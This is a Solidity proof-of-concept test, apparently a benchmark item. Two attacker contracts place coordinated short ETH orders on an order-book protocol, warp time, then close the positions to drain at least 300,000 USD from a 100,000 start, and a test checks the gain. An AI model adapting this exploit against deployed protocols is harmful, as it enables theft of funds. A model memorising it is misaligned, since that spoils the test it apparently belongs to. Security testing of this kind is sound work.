// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

abstract contract Trader {
    IERC20 internal usd;
    IOrderBook internal orders;
    uint256 internal id;

    function use(IERC20 usd_, IOrderBook orders_) public {
        (usd, orders) = (usd_, orders_);
        usd.approve(address(orders), type(uint256).max);
    }

    function ask(bytes32 market, bool isLong, bool isIncrease, uint256 size, uint256 margin) public {
        uint256 limit = isLong == isIncrease ? type(uint256).max : 0;
        id = orders.place(
            address(this), IOrderBook.Terms(market, isLong, isIncrease, false, size, margin, limit, 1e6, address(0))
        );
    }

    function get() public {
        try orders.execute(id) {} catch {}
    }
}

contract Second is Trader {
    function give(address to) external {
        usd.transfer(to, usd.balanceOf(address(this)));
    }
}

contract Attacker is Trader {
    Second private second;

    function begin() external {
        second = new Second();
        second.use(usd, orders);
        usd.transfer(address(second), 40_000e6);
        second.ask("ETH", false, true, 100e6, 10e6);
        ask("ETH", false, true, 100e6, 10e6);
    }

    function grow() external {
        ask("ETH", false, true, 960_000e6, 55_000e6);
        second.ask("ETH", false, true, 600_000e6, 35_000e6);
    }

    function close() external {
        ask("ETH", false, false, type(uint256).max, 0);
        second.ask("ETH", false, false, type(uint256).max, 0);
    }

    function both() external {
        get();
        second.get();
        second.give(address(this));
    }

    function pass() external {
        get();
        second.get();
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 100_000e6);
    }

    function exploit() public {
        other.use(usd, orders);
        other.begin();
        minute();
        other.pass();
        vm.warp(block.timestamp + 30 days);
        other.grow();
        minute();
        other.pass();
        other.close();
        minute();
        other.both();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 300_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
